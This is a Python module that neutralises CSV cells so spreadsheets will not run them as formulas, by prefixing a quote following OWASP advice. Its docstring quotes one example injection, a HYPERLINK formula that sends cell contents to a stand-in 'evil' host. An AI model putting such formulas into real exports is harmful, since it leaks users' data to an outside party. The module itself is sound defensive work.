"""CSV cells a spreadsheet will not run.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-``
or ``@`` as a formula (and TAB or CR before one as nothing at all), so a book titled
``=HYPERLINK("http://evil/?"&A1, "click")`` in an export would run when the file is
opened. OWASP's answer, used here: put a ``'`` before such a cell; spreadsheets show
the text as written. Our importers take the ``'`` off again (webapp.transfer.cells.text),
so an exported file imports as it was.
"""

from __future__ import annotations

import re

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


#: A formula start, or text that already begins with quotes before one (``'=x``): that
#: gets one more, so the importer's taking one off gives back exactly ``'=x``.
_GUARDED = re.compile(r"^'*[=+\-@\t\r]")


def neutralise(cell: str) -> str:
    """``cell`` with a leading ``'`` if a spreadsheet would take it for a formula."""
    if cell and _GUARDED.match(cell):
        return "'" + cell
    return cell


def neutralise_row(row: list[str]) -> list[str]:
    """Every cell of a row through :func:`neutralise`."""
    return [neutralise(cell) for cell in row]
